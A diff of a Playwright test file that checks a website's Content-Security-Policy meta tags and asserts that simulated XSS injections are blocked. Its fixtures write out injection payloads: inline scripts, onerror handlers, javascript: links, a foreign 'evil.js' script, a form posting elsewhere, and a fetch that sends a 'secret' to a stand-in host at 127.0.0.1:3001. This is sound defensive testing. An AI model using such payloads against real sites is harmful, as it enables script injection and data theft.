@@ -1,8 +1,5 @@
 import { createHash } from 'node:crypto';
-import { once } from 'node:events';
 import { readFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { allowed } from '../../deploy/embed-origins';
 import { securityPath } from '../../scripts/build/security-txt';
 import { withAliases } from '../../lib/content/aliases';
@@ -20,27 +17,10 @@ import {
   pagePaths,
   pathOf,
 } from './exported-site';
-import { chatAddress, embeds, expect, frameOf, scriptAddress, test, toast } from './provider-visit';
-import type { Page } from '@playwright/test';
+import { expect, scriptAddress, test, toast } from './provider-visit';
+import { hydrateIsland } from './hydrated';
 import { labelOf, menuLabels } from './labels';
 import { watchViolations } from './violations';
-import { repeatedUnless } from '../extent';
-
-type Attack = { violated: string[]; ran: boolean };
-
-/** Runs code as if an injection had brought it in, and says which directives spoke and whether it took effect. */
-async function attack(page: Page, code: string): Promise<Attack> {
-  const violated = new Set<string>();
-  await page.exposeFunction('reportDirective', (directive: string) => violated.add(directive));
-  await page.evaluate(() => {
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
-      Reflect.get(window, 'reportDirective')(effectiveDirective);
-    });
-  });
-  await page.evaluate(code);
-  await expect.poll(() => violated.size).toBeGreaterThan(0);
-  return { violated: [...violated], ran: await page.evaluate(() => 'injected' in window) };
-}
 
 function hashOf(text: string): string {
   return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
@@ -102,50 +82,83 @@ function allowedOn(path: string): Policy {
   return name === 'chat' ? allowed.chat : { ...allowed[name], 'style-src': [hashOf(''), toastStylesHash] };
 }
 
-test.describe('the policy of every exported page', () => {
+test('every page has the policy of its kind, before all other elements', () => {
+  expect(toastStylesHash).toMatch(/^'sha256-[\w+/]{43}='$/);
   for (const path of htmlFiles.map(pathOf)) {
-    const embed = embedNameOf(path);
-
-    test(`${path} has the policy of a ${embed ?? 'content'} page, before all other elements`, () => {
-      const [first, second] = documentOf(path).querySelectorAll('head > *');
-      expect(first?.getAttribute('charset')?.toLowerCase()).toBe('utf-8');
-      expect(second?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
-      expect(documentOf(path).querySelectorAll('meta[http-equiv="Content-Security-Policy"]').length).toBe(1);
-      const unsafe = /unsafe-|strict-dynamic|\*|https?:(?!\/\/)|blob:/;
-      if (!embed) expect(second?.getAttribute('content')).not.toMatch(unsafe);
-      const own = Object.entries(policyOf(path)).flatMap(([directive, values]) =>
-        values.filter((value) => !allowedOn(path)[directive]?.includes(value)),
-      );
-      expect(own.join(' ')).not.toMatch(unsafe);
-      // Code comes from named hosts, on every page.
-      expect(policyOf(path)['script-src']?.join(' ')).not.toMatch(/unsafe-|strict-dynamic|https?:(?!\/\/)|data:|blob:/);
-      expect(policyOf(path)).toMatchObject(
-        Object.fromEntries(
-          Object.entries(contentPolicy(path)).map(([name, values]) => [name, expect.arrayContaining(values)]),
-        ),
-      );
-      expect(additions(path)).toEqual(allowedOn(path));
-      expect(toastStylesHash).toMatch(/^'sha256-[\w+/]{43}='$/);
-    });
+    const policies = documentOf(path).querySelectorAll('meta[http-equiv="Content-Security-Policy"]');
+    const [first, second] = documentOf(path).querySelectorAll('head > *');
+    expect(first?.getAttribute('charset')?.toLowerCase(), path).toBe('utf-8');
+    expect(policies, path).toEqual([second]);
+    const unsafe = /unsafe-|strict-dynamic|\*|https?:(?!\/\/)|blob:/;
+    const own = Object.entries(policyOf(path)).flatMap(([directive, values]) =>
+      values.filter((value) => !allowedOn(path)[directive]?.includes(value)),
+    );
+    expect(own.join(' '), path).not.toMatch(unsafe);
+    // Code comes from named hosts, on every page.
+    const scripts = policyOf(path)['script-src']?.join(' ');
+    expect(scripts, path).not.toMatch(/unsafe-|strict-dynamic|https?:(?!\/\/)|data:|blob:/);
+    for (const [directive, values] of Object.entries(contentPolicy(path)))
+      expect(policyOf(path)[directive], path).toEqual(expect.arrayContaining(values));
+    expect(additions(path), path).toEqual(allowedOn(path));
   }
-
-  test('allows the chat only on /, and frames only on four pages', () => {
-    expect(pagePaths.filter((path) => embedOf(path) === 'chat')).toEqual(['/']);
-    const framed = withAliases(['/coaching', '/contact', '/schedule']).toSorted();
-    expect(pagePaths.filter((path) => embedOf(path) === 'frame').toSorted()).toEqual(framed);
-  });
 });
 
-/* Every page is visited in visits.spec.ts; the menu's island is the same on all pages of a kind. */
-for (const path of ['/', '/pricing', '/schedule', '/no-such-page']) {
-  const details = repeatedUnless(path === '/' || path === '/schedule');
-  test(`${path} opens its menu without a violation`, details, async ({ page }) => {
+test('the chat is allowed only on /, and frames only on four pages', () => {
+  expect(pagePaths.filter((path) => embedOf(path) === 'chat')).toEqual(['/']);
+  const framed = withAliases(['/coaching', '/contact', '/schedule']).toSorted();
+  expect(pagePaths.filter((path) => embedOf(path) === 'frame').toSorted()).toEqual(framed);
+});
+
+/** Attributes that a browser follows by itself, and links that it follows only on a click or never. */
+const fetched = [
+  'src',
+  'srcset',
+  'poster',
+  'data',
+  'action',
+  'formaction',
+  'ping',
+  'background',
+  'manifest',
+  'imagesrcset',
+];
+const inertLinks = new Set(['canonical', 'alternate']);
+
+/** Whether an attribute's value has an address of another site. A data URL is a file by itself. */
+const isOther = (value = '') =>
+  !value.startsWith('data:') &&
+  /(?:^|[\s,'"(])(?:(?:https?|wss?):)?\/\/(?!$)/.test(value) &&
+  !value.startsWith(`${site.url}/`);
+
+/** The places of a page that name an address of others, other than links to click. */
+function placesThatFetch(path: string): string[] {
+  return documentOf(path)
+    .querySelectorAll('*')
+    .flatMap((element) => {
+      const name = element.rawTagName.toLowerCase();
+      const attributes =
+        name === 'link' && !inertLinks.has(element.getAttribute('rel') ?? '') ? [...fetched, 'href'] : fetched;
+      return attributes
+        .filter((attribute) => isOther(element.getAttribute(attribute)))
+        .map((attribute) => `${name} ${attribute}`);
+    });
+}
+
+test('no page names another party where a browser would ask it by itself', () => {
+  for (const path of htmlFiles.map(pathOf)) {
+    // Without JavaScript the frame is in the page.
+    const expected = embedOf(path) === 'frame' ? ['iframe src'] : [];
+    expect.soft(placesThatFetch(path), path).toEqual(expected);
+    expect.soft(inlineStyles(path).join('\n'), path).not.toMatch(/url\(["']?(?:https?:)?\/\/|@import/);
+  }
+});
+
+for (const path of ['/', '/schedule']) {
+  test(`${path} opens its menu without a violation`, async ({ page }) => {
     const violations = await watchViolations(page);
-    await page.goto(path, { waitUntil: 'networkidle' });
-    const menu = page.getByRole('banner').getByRole('button', { name: menuLabels.pricing });
-    await menu.hover();
-    await expect(page.locator('[data-component="desktop-menu"]')).toHaveAttribute('data-hydrated', '');
-    await menu.click();
+    await page.goto(path);
+    await hydrateIsland(page, 'desktop-menu');
+    await page.getByRole('banner').getByRole('button', { name: menuLabels.pricing }).click();
     await expect(page.getByRole('banner').getByRole('link', { name: labelOf('/pricing') })).toBeVisible();
     expect(violations).toEqual([]);
   });
@@ -156,24 +169,6 @@ test('a toast is shown without violations', async ({ page, provider }) => {
   await provider.setMode('404', scriptAddress);
   await page.goto('/schedule');
   await expect(toast(page)).toHaveAttribute('data-type', 'error', { timeout: 12_000 });
-  expect(violations).toEqual([]);
-});
-
-test('a visit of ten pages that ends with a booking loads ten documents without violations', async ({ page }) => {
-  const violations = await watchViolations(page);
-  await page.goto('/industries/plumbers');
-  const walk = ['/', '/pricing', '/add-on-pricing', '/testimonials', '/contact', '/demo', '/about/founder', '/ai'];
-  for (const path of [...walk, '/coaching', '/schedule']) {
-    await page.evaluate(() => Object.assign(window, { previousPage: true }));
-    // The link may be in the desktop menu, the footer or the page.
-    await page.locator(`a[href="${path}"]`).first().dispatchEvent('click');
-    await expect(page).toHaveURL(path);
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    expect(await page.evaluate(() => 'previousPage' in window), path).toBe(false);
-  }
-  const [calendar] = embeds;
-  await calendar?.use(frameOf(page));
-  await expect(page.getByRole('status').filter({ hasText: calendar?.confirmation })).toHaveCount(1);
   expect(violations).toEqual([]);
 });
 
@@ -190,116 +185,34 @@ test('a redirect page complies with its policy, keeps the query and sends no ref
   expect(violations).toEqual([]);
 });
 
-test.describe('attacks that fail', () => {
-  test.beforeEach(async ({ page }) => {
+/** What an injection would try, and the directive that forbids it. */
+const attacks: [what: string, directive: string, code: string][] = [
+  [
+    'an inline script',
+    'script-src-elem',
+    `document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.injected = 1' }))`,
+  ],
+  [
+    'an event handler',
+    'script-src-attr',
+    `document.querySelector('main').insertAdjacentHTML('beforeend', '<img src="/x.png" onerror="window.injected = 1">')`,
+  ],
+  [
+    'data sent elsewhere',
+    'connect-src',
+    `fetch('http://127.0.0.1:3001/?secret').then(() => { window.injected = 1 }, () => {}); document.title`,
+  ],
+];
+
+for (const [what, directive, code] of attacks) {
+  test(`an injection cannot bring in ${what}`, async ({ page }) => {
+    const violations = await watchViolations(page);
     await page.goto('/contact', { waitUntil: 'networkidle' });
-  });
-
-  test('an injected inline script', async ({ page }) => {
-    const code = `{ const script = document.createElement('script'); script.textContent = 'window.injected = 1';
-      document.body.append(script); }`;
-    expect(await attack(page, code)).toEqual({ violated: ['script-src-elem'], ran: false });
-  });
-
-  test('an injected event handler', async ({ page }) => {
-    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
-      '<img src="/no-such.png" onerror="window.injected = 1">')`;
-    expect(await attack(page, code)).toEqual({ violated: ['script-src-attr'], ran: false });
-  });
-
-  test('an injected link with a javascript: address', async ({ page }) => {
-    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
-      '<a id="evil" href="javascript:window.injected = 1">x</a>'); document.getElementById('evil').click()`;
-    expect(await attack(page, code)).toEqual({ violated: ['script-src-elem'], ran: false });
-  });
-
-  test('a script made from a string', async ({ page }) => {
-    const code = `setTimeout('window.injected = 1', 0); document.title`;
-    expect(await attack(page, code)).toEqual({ violated: ['script-src'], ran: false });
-  });
-
-  test('a script from another origin', async ({ page }) => {
-    const code = `{ const script = document.createElement('script'); script.src = 'http://127.0.0.1:3001/evil.js';
-      document.body.append(script); }`;
-    expect((await attack(page, code)).violated).toEqual(['script-src-elem']);
-  });
-
-  test('a style that would repaint the page', async ({ page }) => {
-    const code = `{ const style = document.createElement('style'); style.textContent = 'body { display: none }';
-      document.head.append(style); }`;
-    expect((await attack(page, code)).violated).toEqual(['style-src-elem']);
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-  });
-
-  test('a frame of another origin', async ({ page }) => {
-    const code = `{ const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:3001/stand-in/forger';
-      document.body.append(frame); }`;
-    expect((await attack(page, code)).violated).toEqual(['frame-src']);
-  });
-
-  test('a form that would send data elsewhere', async ({ page }) => {
-    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
-      '<form id="evil" action="http://127.0.0.1:3001/"></form>'); document.getElementById('evil').submit()`;
-    expect((await attack(page, code)).violated).toEqual(['form-action']);
-  });
-
-  test('data sent elsewhere', async ({ page }) => {
-    const code = `fetch('http://127.0.0.1:3001/?secret').catch(() => {}); document.title`;
-    expect((await attack(page, code)).violated).toEqual(['connect-src']);
-  });
-
-  test('an injected base address', async ({ page }) => {
-    const code = `{ const base = document.createElement('base'); base.href = 'http://127.0.0.1:3001/';
-      document.head.append(base); }`;
-    expect((await attack(page, code)).violated).toEqual(['base-uri']);
-  });
-});
-
-test.describe('content pages must not', () => {
-  for (const [what, directive, code] of [
-    [
-      'run the provider’s script',
-      'script-src-elem',
-      `document.body.append(Object.assign(document.createElement('script'), { src }))`,
-    ],
-    [
-      'show the provider’s frame',
-      'frame-src',
-      `document.body.append(Object.assign(document.createElement('iframe'), { src }))`,
-    ],
-    ['send requests to the provider', 'connect-src', `fetch(src).catch(() => {})`],
-  ] as const) {
-    test(what, async ({ page }) => {
-      await page.goto('/pricing');
-      const { violated } = await attack(page, `{ const src = '${scriptAddress}form_embed.js'; ${code}; }`);
-      expect(violated).toEqual([directive]);
-    });
-  }
-});
-
-for (const [path, what, address] of [
-  ['/', 'frame’s', scriptAddress],
-  ['/schedule', 'chat’s', chatAddress],
-] as const) {
-  test(`a script from the ${what} host must not run on ${path}`, async ({ page }) => {
-    await page.goto(path, { waitUntil: 'networkidle' });
-    const code = `document.body.append(Object.assign(document.createElement('script'), { src: '${address}evil.js' }))`;
-    expect((await attack(page, code)).violated).toEqual(['script-src-elem']);
+    await page.evaluate(code);
+    await expect.poll(() => violations.join('\n')).toContain(`${directive}: `);
+    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
   });
 }
-
-test('another site cannot frame this one', async ({ page, baseURL }) => {
-  const otherSite = createServer((_request, response) => {
-    response.setHeader('Content-Type', 'text/html');
-    response.end(`<iframe src="${baseURL}/schedule"></iframe>`);
-  }).listen(0, '127.0.0.1');
-  await once(otherSite, 'listening');
-  const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
-  await page.goto(`http://127.0.0.1:${(otherSite.address() as AddressInfo).port}/`);
-  expect((await refused).type()).toBe('error');
-  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
-  otherSite.close();
-});
 
 test('security.txt says whom to tell about a weakness, and until when it holds', () => {
   const lines = readFileSync(`${folder}${securityPath}`, 'utf8').trimEnd().split('\n');
